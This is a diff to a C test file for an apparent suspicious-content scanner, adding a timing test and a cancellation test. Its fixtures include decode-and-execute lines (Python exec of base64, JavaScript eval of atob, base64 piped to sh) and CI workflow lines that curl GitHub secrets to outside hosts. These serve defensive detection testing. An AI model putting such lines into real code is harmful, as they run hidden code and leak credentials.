@@ -4,6 +4,7 @@
 #include <string.h>
 
 #include "core/limits.h"
+#include "evidence/content/role.h"
 
 /* Returns: (owned) "LINE KIND TEXT\n" of each mark. */
 static char *
@@ -156,6 +157,74 @@ test_empty (void)
   g_assert_cmpuint (n_noted, ==, 0);
 }
 
+/* Seconds that comparing two versions of a file may take: it takes far less, where the square of its size would take minutes. */
+#define SLOW_SECONDS 10.0
+
+/* One line of a file's greatest size, with something to note every few bytes of it. */
+static void
+test_one_line_of_notes (void)
+{
+  static const struct {
+    const char *path;
+    const char *unit;
+  } files[] = {
+    { "a.py", "exec(base64.b64decode(\"eA\"));" },
+    { "a.js", "eval(atob(\"eA\"));" },
+    { ".github/workflows/a.yml", "curl -d ${{ secrets.A }} http://e/ ; " },
+    { ".github/workflows/a.yml",
+      "curl https://e.example/ -d ${{ secrets.E_A }}${{ secrets.E_B }} " },
+    { "CMakeLists.txt", "check_c_source_compiles(\"" },
+    { "CMakeLists.txt", "check_c_source_compiles([[" },
+    { "configure.ac", "AC_COMPILE_IFELSE([AC_LANG_PROGRAM([[" },
+    { "a.sh", "echo eA | base64 -d | sh; " },
+    { "setup.py", "urlopen " },
+  };
+
+  for (gsize i = 0; i < G_N_ELEMENTS (files); i++) {
+    g_autoptr (HmMarks) marks = hm_marks_new ();
+    g_autoptr (GTimer) timer = g_timer_new ();
+    const guint32 roles = hm_path_roles (files[i].path, HM_ENTRY_FILE);
+    GString *text = g_string_new (NULL);
+    HmText before;
+    HmText after;
+
+    while (text->len + strlen (files[i].unit) + 8 < HM_MARKED_BYTES_MAX)
+      g_string_append (text, files[i].unit);
+    before = (HmText){ files[i].path, roles, text->str, text->len };
+    {
+      g_autofree char *changed = g_strconcat (text->str, "\n# x\n", NULL);
+
+      after = (HmText){ files[i].path, roles, changed, strlen (changed) };
+      hm_marks_compare (marks, &before, &after);
+    }
+    g_test_message ("%s: %.2f s", files[i].path, g_timer_elapsed (timer, NULL));
+    g_assert_cmpfloat (g_timer_elapsed (timer, NULL), <, SLOW_SECONDS);
+    g_string_free (text, TRUE);
+  }
+}
+
+/* What is looked at when the user interrupts is given up. */
+static void
+test_cancelled (void)
+{
+  g_autoptr (HmMarks) marks = hm_marks_new ();
+  const HmText file = { "a.c", HM_ROLE_SOURCE, OPEN, strlen (OPEN) };
+  gint cancelled = 0;
+  guint n_noted;
+
+  hm_marks_set_cancelled (marks, &cancelled);
+  hm_marks_read (marks, &file);
+  hm_marks_get (marks, &n_noted);
+  g_assert_cmpuint (n_noted, ==, 1);
+  cancelled = 1;
+  hm_marks_reset (marks);
+  hm_marks_read (marks, &file);
+  hm_marks_compare (marks, NULL, &file);
+  hm_marks_note (marks, HM_MARK_LONE_DOT, 1, "x", 1, "x");
+  hm_marks_get (marks, &n_noted);
+  g_assert_cmpuint (n_noted, ==, 0);
+}
+
 int
 main (int argc, char **argv)
 {
@@ -167,5 +236,7 @@ main (int argc, char **argv)
   g_test_add_func ("/marks/compare-past-limit", test_compare_past_limit);
   g_test_add_func ("/marks/reset", test_reset);
   g_test_add_func ("/marks/empty-file", test_empty);
+  g_test_add_func ("/marks/one-line-of-notes", test_one_line_of_notes);
+  g_test_add_func ("/marks/cancelled", test_cancelled);
   return g_test_run ();
 }
